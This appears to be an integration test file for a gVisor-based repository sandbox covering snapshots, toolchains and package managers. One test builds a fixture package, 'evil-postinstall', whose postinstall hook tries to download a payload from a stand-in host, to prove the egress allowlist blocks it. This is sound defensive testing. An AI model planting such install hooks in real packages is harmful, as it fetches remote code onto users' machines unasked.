import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DockerSandboxDriver } from './docker-driver';
import type { DockerSandbox } from './docker-sandbox';
import { RepoMirror } from './mirror';
import { WarmPool } from './pool';
import { SNAPSHOT_KEY_VERSION, SNAPSHOT_LABELS } from './snapshot-labels';
import { SnapshotManager, type Snapshot, type SnapshotProgress } from './snapshots';
import { createRepoFromFiles, ensureBaseImage, TEST_TOOLCHAIN_DIR } from './test-support';
import { ToolchainStore } from './toolchains';

/*
 * Real repositories' environments in real gVisor: snapshots per (repository, recipe), Node from
 * the registry following the repository, lockfile-less, pnpm and yarn repositories, lifecycle
 * scripts under the egress allowlist, and the test command reaching `sandbox.environment`. Each
 * repository is a tiny one made here with small real dependencies from the npm registry.
 */
const docker = new Docker();
const ownerId = `test-environments-${process.pid}`;
const repository = `dockhand/snapshot-env-test-${process.pid}`;
const CA = '/etc/ssl/certs/ca-certificates.crt';
const sources = new Map<string, string>();
let dataDir: string;
let mirror: RepoMirror;
let toolchains: ToolchainStore;
let snapshots: SnapshotManager;
let driver: DockerSandboxDriver;
const cleanup: string[] = [];

beforeAll(() => {
  ensureBaseImage();
  dataDir = mkdtempSync(join(tmpdir(), 'dockhand-environments-'));
  mirror = new RepoMirror(dataDir, { sources: (name) => sources.get(name) ?? name });
  toolchains = new ToolchainStore({ dataDir: TEST_TOOLCHAIN_DIR, caBundle: CA });
  snapshots = new SnapshotManager({ docker, mirror, dataDir, ownerId, repository, egress: 'proxy', extraCaBundle: CA, toolchains });
  driver = new DockerSandboxDriver({ docker, ownerId, runtime: 'runsc' });
});

afterAll(async () => {
  await driver?.destroyAll();
  for (const image of await docker.listImages({ filters: { reference: [repository] } })) {
    await docker.getImage(image.Id).remove({ force: true }).catch(() => undefined);
  }
  for (const path of [dataDir, ...cleanup]) rmSync(path, { recursive: true, force: true });
});

function register(name: string, files: Record<string, string | Buffer>): { sha: string; commit: (more: Record<string, string | Buffer>, message: string) => string } {
  const repo = createRepoFromFiles(files);
  sources.set(name, repo.path);
  cleanup.push(repo.path);
  return repo;
}

async function snapshotOf(name: string, sha: string, onProgress?: (progress: SnapshotProgress) => void): Promise<Snapshot> {
  const mirrorPath = await mirror.ensure(name, sha);
  return snapshots.resolve({ repo: name, mirrorPath, sha, ...(onProgress ? { onProgress } : {}) });
}

async function sandboxOf(snapshot: Snapshot): Promise<DockerSandbox> {
  return driver.create({ image: snapshot.image, baseSha: snapshot.sha, snapshot: snapshot.identity });
}

async function sh(sandbox: DockerSandbox, script: string, timeoutMs = 120_000): Promise<{ exitCode: number; output: string }> {
  const result = await sandbox.exec({ cmd: ['bash', '-c', script], timeoutMs, env: { NO_COLOR: '1' } });
  // eslint-disable-next-line no-control-regex
  return { exitCode: result.exitCode, output: (result.stdout + result.stderr).replace(/\u001b\[[0-9;]*m/g, '') };
}

describe('a snapshot belongs to one repository and one recipe', () => {
  it('gives two lockfile-less repositories their own snapshots, Node versions and test commands; neither can start or claim the other’s', async () => {
    const alpha = register('acme/alpha', {
      'package.json': JSON.stringify({ name: 'alpha', version: '1.0.0', dependencies: { ms: '2.1.3' }, scripts: { test: 'node --test' } }),
      '.nvmrc': '20\n',
      '.gitignore': 'node_modules/\n',
      '.dockhand/policy.yml': 'testCommand: node --test test/\n',
    });
    const beta = register('acme/beta', {
      'package.json': JSON.stringify({ name: 'beta', version: '1.0.0', dependencies: { 'is-number': '7.0.0' }, scripts: { test: 'node --test', check: 'node -e 0' } }),
      '.gitignore': 'node_modules/\n',
      '.dockhand/environment.yml': 'test: npm run check\n',
    });
    const [a, b] = await Promise.all([snapshotOf('acme/alpha', alpha.sha), snapshotOf('acme/beta', beta.sha)]);
    expect(a.image).not.toBe(b.image);
    const labels = (await docker.getImage(a.image).inspect()).Config?.Labels ?? {};
    expect(labels[SNAPSHOT_LABELS.repo]).toBe('acme/alpha');
    expect(labels[SNAPSHOT_LABELS.recipe]).toBe(a.identity.recipeHash);
    expect(labels[SNAPSHOT_LABELS.keyVersion]).toBe(String(SNAPSHOT_KEY_VERSION));

    const inAlpha = await sandboxOf(a);
    const inBeta = await sandboxOf(b);
    const alphaCheck = await sh(inAlpha, 'node --version; node -e "require(\'ms\'); console.log(\'ms here\')"; node -e "require(\'is-number\')" 2>/dev/null || echo "no is-number"');
    expect(alphaCheck.output).toMatch(/^v20\.\d+\.\d+\nms here\nno is-number\n$/);
    const betaCheck = await sh(inBeta, 'node --version; npm --version; node -e "require(\'is-number\'); console.log(\'is-number here\')"; node -e "require(\'ms\')" 2>/dev/null || echo "no ms"');
    expect(betaCheck.output).toMatch(/^v22\.\d+\.\d+\n10\.\d+\.\d+\nis-number here\nno ms\n$/);
    // The recipe reaches the sandbox: policy.yml's testCommand, environment.yml's test.
    expect(inAlpha.environment?.test).toEqual({ command: 'node --test test/', source: '.dockhand/policy.yml testCommand' });
    expect(inAlpha.environment?.repo).toBe('acme/alpha');
    expect(inBeta.environment?.test).toEqual({ command: 'npm run check', source: '.dockhand/environment.yml' });

    await expect(driver.create({ image: a.image, baseSha: a.sha, snapshot: b.identity })).rejects.toThrow(/belongs to repository "acme\/alpha", not "acme\/beta"/);
    const pool = new WarmPool({ driver, size: 1 });
    try {
      pool.warm(a);
      await pool.ready();
      expect(pool.idleCount(a.image)).toBe(1);
      await expect(pool.claim({ ...a, identity: b.identity }, a.sha, () => mirror.bundle(mirror.pathFor('acme/alpha'), a.sha))).rejects.toThrow(/refusing the claim/);
      const claimed = await pool.claim(a, a.sha, () => mirror.bundle(mirror.pathFor('acme/alpha'), a.sha));
      expect(claimed?.environment?.repo).toBe('acme/alpha');
      await claimed?.destroy();
    } finally {
      await pool.drain();
    }
    // An image without the current key's labels (e.g. built under the old lockfile-only key) is never started.
    const old = `${repository}:old-key`;
    await docker.getImage('dockhand/base:latest').tag({ repo: repository, tag: 'old-key' });
    await expect(driver.create({ image: old, baseSha: a.sha, snapshot: a.identity })).rejects.toThrow(`not a snapshot of key version ${SNAPSHOT_KEY_VERSION} `);
    await Promise.all([inAlpha.destroy(), inBeta.destroy()]);
  }, 600_000);
});

describe('toolchains that real projects use', () => {
  it('runs vitest, vite build, esbuild and jest in gVisor, on the Node the repository asks for', async () => {
    const repo = register('acme/web', {
      'package.json': JSON.stringify({
        name: 'web',
        version: '1.0.0',
        type: 'module',
        scripts: { test: 'vitest run', build: 'vite build', bundle: 'esbuild src/sum.js --bundle --platform=node --format=esm --outfile=dist/bundle.js', jest: 'node --experimental-vm-modules node_modules/jest/bin/jest.js jest/' },
        devDependencies: { vitest: '4.1.12', vite: '7.3.8', esbuild: '0.28.2', jest: '30.5.2' },
      }),
      '.nvmrc': '22\n',
      '.gitignore': 'node_modules/\ndist/\n',
      'vitest.config.js': "export default { test: { include: ['test/**/*.test.js'] } };\n",
      'index.html': '<!doctype html><script type="module" src="/src/main.js"></script>\n',
      'src/sum.js': 'export function sum(a, b) { return a + b; }\n',
      'src/main.js': "import { sum } from './sum.js';\ndocument.body.textContent = String(sum(1, 2));\n",
      'test/sum.test.js': "import { expect, test } from 'vitest';\nimport { sum } from '../src/sum.js';\ntest('adds', () => { expect(sum(1, 2)).toBe(3); });\ntest('adds negatives', () => { expect(sum(-1, -2)).toBe(-3); });\n",
      'jest/sum.test.js': "import { sum } from '../src/sum.js';\ntest('adds in jest', () => { expect(sum(2, 2)).toBe(4); });\n",
    });
    const stages: string[] = [];
    const snapshot = await snapshotOf('acme/web', repo.sha, (progress) => stages.push(progress.stage));
    expect(stages).toEqual(expect.arrayContaining(['install', 'commit', 'done']));
    expect(snapshot.environment.test).toEqual({ command: 'npm test', source: 'package.json scripts.test' });
    const sandbox = await sandboxOf(snapshot);
    try {
      expect((await sh(sandbox, 'node --version')).output).toMatch(/^v22\./);
      const vitest = await sh(sandbox, snapshot.environment.test.command, 180_000);
      expect(vitest.output).toMatch(/Tests\s+2 passed/);
      expect(vitest.output).not.toMatch(/WebAssembly|Out of memory/);
      expect(vitest.exitCode).toBe(0);
      const vite = await sh(sandbox, 'npm run build && find dist/assets -name "*.js" | grep -c .', 180_000);
      expect(vite.exitCode, vite.output).toBe(0);
      expect(vite.output).toContain('built in');
      const esbuild = await sh(sandbox, 'npm run bundle && node -e "import(\'./dist/bundle.js\').then((m) => console.log(m.sum(20, 22)))"');
      expect(esbuild.exitCode, esbuild.output).toBe(0);
      expect(esbuild.output.split('\n')).toContain('42');
      const jest = await sh(sandbox, 'npm run jest', 180_000);
      expect(jest.exitCode, jest.output).toBe(0);
      expect(jest.output).toMatch(/Tests:\s+1 passed/);
    } finally {
      await sandbox.destroy();
    }
  }, 900_000);

  it('builds pnpm, yarn classic and yarn berry repositories with their own package managers', async () => {
    const lockfiles = mkdtempSync(join(tmpdir(), 'dockhand-lockfiles-'));
    cleanup.push(lockfiles);
    // Lockfiles made on the host by the same toolchains (as a developer's machine would).
    const make = async (manager: 'pnpm' | 'yarn' | 'yarn-berry', version: string, args: string[]): Promise<string> => {
      const dir = join(lockfiles, manager);
      execFileSync('mkdir', ['-p', dir]);
      execFileSync('sh', ['-c', `echo '{"name":"${manager}-repo","version":"1.0.0","dependencies":{"ms":"2.1.3"}}' > package.json`], { cwd: dir });
      const tool = await toolchains.ensure(manager, version);
      const script = manager === 'pnpm' ? 'bin/pnpm.cjs' : 'bin/yarn.js';
      execFileSync(process.execPath, [join(tool.hostPath, script), ...args], { cwd: dir, stdio: 'ignore', env: { ...process.env, YARN_ENABLE_IMMUTABLE_INSTALLS: 'false', YARN_ENABLE_TELEMETRY: '0' } });
      return readFileSync(join(dir, manager === 'pnpm' ? 'pnpm-lock.yaml' : 'yarn.lock'), 'utf8');
    };
    const pnpmVersion = '9.15.9';
    const [pnpmLock, yarnLock, berryLock] = await Promise.all([
      make('pnpm', pnpmVersion, ['install', '--lockfile-only', '--no-frozen-lockfile']),
      make('yarn', '1.22.22', ['install', '--ignore-scripts', '--no-progress', '--non-interactive']),
      make('yarn-berry', '4.9.1', ['install', '--mode=update-lockfile']),
    ]);
    const pkg = (name: string): string => JSON.stringify({ name, version: '1.0.0', dependencies: { ms: '2.1.3' }, scripts: { test: 'node -e "console.log(require(\'ms\')(60000))"' } });
    const pnpmRepo = register('acme/pnpm', { 'package.json': pkg('pnpm-repo'), 'pnpm-lock.yaml': pnpmLock, '.gitignore': 'node_modules/\n' });
    const yarnRepo = register('acme/yarn', { 'package.json': pkg('yarn-repo'), 'yarn.lock': yarnLock, '.gitignore': 'node_modules/\n' });
    const berryRepo = register('acme/berry', { 'package.json': pkg('yarn-berry-repo'), 'yarn.lock': berryLock, '.gitignore': 'node_modules/\n' });
    const built = await Promise.all([snapshotOf('acme/pnpm', pnpmRepo.sha), snapshotOf('acme/yarn', yarnRepo.sha), snapshotOf('acme/berry', berryRepo.sha)]);
    expect(built.map((snapshot) => snapshot.environment.packageManager?.name)).toEqual(['pnpm', 'yarn', 'yarn-berry']);
    expect(built.map((snapshot) => snapshot.environment.install.command)).toEqual(['pnpm install --frozen-lockfile', 'yarn install --frozen-lockfile', 'yarn install --immutable']);
    for (const snapshot of built) {
      const sandbox = await sandboxOf(snapshot);
      try {
        const test = await sh(sandbox, snapshot.environment.test.command);
        expect(test.exitCode, test.output).toBe(0);
        expect(test.output.split('\n')).toContain('1m');
        // The install left the workspace clean (nothing for the task's diff).
        expect((await sh(sandbox, 'git status --porcelain')).output).toBe('');
      } finally {
        await sandbox.destroy();
      }
    }
  }, 600_000);
});

describe('lifecycle scripts under the egress allowlist', () => {
  it('fails the build naming the package, its script and the refused host; does not retry the same key; skipScripts gets past it', async () => {
    const work = mkdtempSync(join(tmpdir(), 'dockhand-evil-'));
    cleanup.push(work);
    execFileSync('sh', [
      '-c',
      [
        'mkdir -p package',
        `echo '{"name":"evil-postinstall","version":"1.0.0","scripts":{"postinstall":"node reach.js"}}' > package/package.json`,
        `echo 'require("https").get("https://blocked.example.com/payload", () => process.exit(0)).on("error", (error) => { console.error("download failed: " + error.message); process.exit(1); });' > package/reach.js`,
        'tar czf evil-postinstall-1.0.0.tgz package',
      ].join(' && '),
    ], { cwd: work });
    const repo = register('acme/scripts', {
      'package.json': JSON.stringify({ name: 'scripts', version: '1.0.0', dependencies: { 'evil-postinstall': 'file:vendor/evil-postinstall-1.0.0.tgz', ms: '2.1.3' }, scripts: { test: 'node --test' } }),
      'vendor/evil-postinstall-1.0.0.tgz': readFileSync(join(work, 'evil-postinstall-1.0.0.tgz')),
      '.gitignore': 'node_modules/\n',
    });
    const failure = await snapshotOf('acme/scripts', repo.sha).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(Error);
    const message = failure instanceof Error ? failure.message : '';
    expect(message).toContain('the postinstall script of package "evil-postinstall" failed');
    expect(message).toContain('it tried to reach blocked.example.com');
    expect(message).toContain('egressHosts: [blocked.example.com]');
    expect(message).toContain('skipScripts: [evil-postinstall]');
    const logPath = /full log: (\S+\.log)/.exec(message)?.[1] ?? '';
    expect(existsSync(logPath)).toBe(true);
    expect(readFileSync(logPath, 'utf8')).toContain('download failed');
    const builds = snapshots.builds;
    const started = Date.now();
    const again = await snapshotOf('acme/scripts', repo.sha).catch((error: unknown) => error);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(again instanceof Error ? again.message : '').toContain('the postinstall script of package "evil-postinstall" failed');
    expect(snapshots.builds).toBe(builds);

    const skipped = repo.commit({ '.dockhand/environment.yml': 'skipScripts: [evil-postinstall]\n' }, 'skip its scripts');
    const snapshot = await snapshotOf('acme/scripts', skipped);
    const sandbox = await sandboxOf(snapshot);
    try {
      const check = await sh(sandbox, 'test -f node_modules/evil-postinstall/reach.js && node -e "require(\'ms\')" && echo ok');
      expect(check.output).toMatch(/ok\n$/);
    } finally {
      await sandbox.destroy();
    }
  }, 600_000);
});

describe('a Python project whose build backend is newer than Debian’s', () => {
  it('builds its snapshot with the tests on the source tree (a .pth in the venv; the build log says so), and they run with no environment.yml', async () => {
    // Shaped like tkem/cachetools and hukkin/tomli: a backend newer than Debian's for PEP 639's
    // `license = "MIT"`, a src layout. Before: the build failed ("build-system.requires asks for
    // setuptools>=77.0.3 (installed: 66.1.1)") and the repository needed an environment.yml.
    const repo = register('acme/pyback', {
      'pyproject.toml': '[build-system]\nrequires = ["setuptools>=77.0.3", "wheel"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "pyback"\nversion = "1.0"\nlicense = "MIT"\n',
      'src/pyback/__init__.py': 'def double(x):\n    return 2 * x\n',
      'tests/test_double.py': 'from pyback import double\n\ndef test_double():\n    assert double(2) == 4\n',
      '.gitignore': '__pycache__/\n.venv/\n',
    });
    const snapshot = await snapshotOf('acme/pyback', repo.sha);
    expect(snapshot.environment.test.command).toBe('python3 -m pytest');
    const sandbox = await sandboxOf(snapshot);
    try {
      // The source is what the tests import: a change to it is what they see.
      await sandbox.writeFile('src/pyback/__init__.py', 'def double(x):\n    return x + x\n');
      const test = await sh(sandbox, `${snapshot.environment.test.command} -q -p no:cacheprovider`);
      expect(test.output).toContain('1 passed');
      expect((await sh(sandbox, 'cat .venv/lib/python3*/site-packages/dockhand-source-tree.pth')).output.trim()).toBe('/workspace/src');
    } finally {
      await sandbox.destroy();
    }
  }, 600_000);
});
